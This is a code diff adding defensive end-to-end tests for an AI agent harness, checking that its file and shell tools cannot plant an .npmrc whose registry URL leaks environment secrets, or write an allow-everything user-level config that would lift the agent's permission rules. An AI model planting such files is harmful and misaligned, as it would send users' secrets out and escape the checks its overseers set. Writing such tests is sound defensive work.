@@ -11,6 +11,7 @@ import {
 import { join } from "node:path";
 import { describe, expect } from "vitest";
 import {
+  BWRAP_AVAILABLE,
   E2E_TIMEOUT_MS,
   type E2eSandbox,
   observationOf,
@@ -40,6 +41,84 @@ function callDefault(sandbox: E2eSandbox, tool: string, input: unknown, cwd?: st
 }
 
 describe.concurrent("the harness protects itself", () => {
+  test("write_file cannot plant the .npmrc that an npx server's install reads outside the sandbox", {
+    timeout: E2E_TIMEOUT_MS,
+  }, async ({ sandbox }) => {
+    // npm expands the user's environment in .npmrc values and runs with the user's network: a
+    // planted registry URL would carry any secret of the environment to any host at the next install.
+    const config = {
+      workspaceRoot: "workspace",
+      policy: { sandbox: "optional", rules: [{ tool: "write_file", decision: "allow" }] },
+      mcpServers: { mem: { command: "npx", args: ["-y", "@e2e/mcp-server"], cwd: "workspace/app" } },
+    };
+    mkdirSync(join(sandbox.workspace, "app"), { recursive: true });
+    writeFileSync(sandbox.configPath, JSON.stringify(config));
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: npm's own ${VAR} syntax, written verbatim.
+    const leak = "registry=http://127.0.0.1:9/${HOME}/\n";
+    const attempts = await Promise.all(
+      ["app/.npmrc", ".npmrc"].map((path) =>
+        sandbox.run(["call", "write_file", "--input", JSON.stringify({ path, content: leak }), "--json"]),
+      ),
+    );
+    for (const attempt of attempts) {
+      expect(attempt.code, attempt.stdout).toBe(1);
+      expect(observationOf(attempt.stdout)).toMatchObject({ ok: false, error: "tool_error" });
+    }
+    expect(existsSync(join(sandbox.workspace, "app", ".npmrc"))).toBe(false);
+    expect(existsSync(join(sandbox.workspace, ".npmrc"))).toBe(false);
+  });
+
+  test.skipIf(!BWRAP_AVAILABLE)(
+    "run_command cannot create the user-level configuration where there is none yet",
+    {
+      timeout: E2E_TIMEOUT_MS,
+    },
+    async ({ sandbox }) => {
+      // XDG_CONFIG_HOME inside the workspace, which the command's sandbox may write.
+      const env = { XDG_CONFIG_HOME: join(sandbox.workspace, "conf") };
+      sandbox.writeConfig({
+        runCommand: { allowShell: true },
+        policy: { sandbox: "required", rules: [{ tool: "run_command", decision: "allow" }] },
+      });
+      const planted = await sandbox.run(
+        [
+          "call",
+          "run_command",
+          "--input",
+          JSON.stringify({
+            command: "sh",
+            args: [
+              "-c",
+              `mkdir -p conf/agent; echo '${ALLOW_EVERYTHING}' > conf/agent/config.json; echo done > ok.txt`,
+            ],
+          }),
+          "--json",
+        ],
+        { env },
+      );
+      expect(observationOf(planted.stdout)).toMatchObject({ ok: true });
+      expect(readFileSync(join(sandbox.workspace, "ok.txt"), "utf8")).toBe("done\n");
+      expect(existsSync(join(sandbox.workspace, "conf", "agent", "config.json"))).toBe(false);
+    },
+  );
+
+  test("write_file cannot create the user-level configuration where there is none yet", {
+    timeout: E2E_TIMEOUT_MS,
+  }, async ({ sandbox }) => {
+    // HOME is the workspace here, as when a project lives in the home directory: the user file that
+    // would be merged into every project lies inside what local tools may write.
+    writeProjectConfig(sandbox, { policy: { rules: [{ tool: "write_file", decision: "allow" }] } });
+    const userFile = join(sandbox.root, ".config", "agent", "config.json");
+    const planted = await callDefault(sandbox, "write_file", {
+      path: ".config/agent/config.json",
+      content: ALLOW_EVERYTHING,
+      createDirectories: true,
+    });
+    expect(planted.code, planted.stdout).toBe(1);
+    expect(String(observationOf(planted.stdout).message)).toContain("no local tool may read or write it");
+    expect(existsSync(userFile)).toBe(false);
+  });
+
   test("write_file cannot rewrite agent.config.json or the audit trail, and the refusal is audited", {
     timeout: E2E_TIMEOUT_MS,
   }, async ({ sandbox }) => {
